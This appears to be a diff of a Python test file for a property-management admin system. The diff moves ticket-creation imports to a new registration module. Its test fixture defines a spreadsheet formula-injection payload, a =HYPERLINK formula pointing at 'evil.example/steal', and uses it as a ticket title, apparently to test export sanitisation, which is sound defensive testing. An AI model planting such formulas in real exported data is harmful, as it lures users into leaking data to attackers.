@@ -26,9 +26,9 @@ from pm_admin.owners.files import export_params
 from pm_admin.owners.queries import OwnerFilter
 from pm_admin.surveys import plans
 from pm_admin.surveys.plans import PlanInput
-from pm_admin.tickets import services as ticket_services
 from pm_admin.tickets.models import TicketCategory
-from pm_admin.tickets.services import TicketInput
+from pm_admin.tickets.services import registration
+from pm_admin.tickets.services.registration import TicketInput
 from tests.support import factories
 
 HYPERLINK = '=HYPERLINK("http://evil.example/steal","click")'
@@ -91,7 +91,7 @@ def _archives(session, world, fmt):
 
 def _review(session, world, fmt):
     category = session.exec(select(TicketCategory).where(TicketCategory.code == "water_power")).one()
-    ticket_services.create_ticket(session, actor=world["manager"], data=TicketInput(
+    registration.create_ticket(session, actor=world["manager"], data=TicketInput(
         kind="complaint", category_id=category.id, tier="urgent", channel="hotline", title=HYPERLINK,
         room_id=world["room"].id), now=datetime.now(UTC) - timedelta(hours=5))  # late: in today's review
     return world["manager"], "ticket_review", {"day": date.today().isoformat(), "language": "zh-CN"}
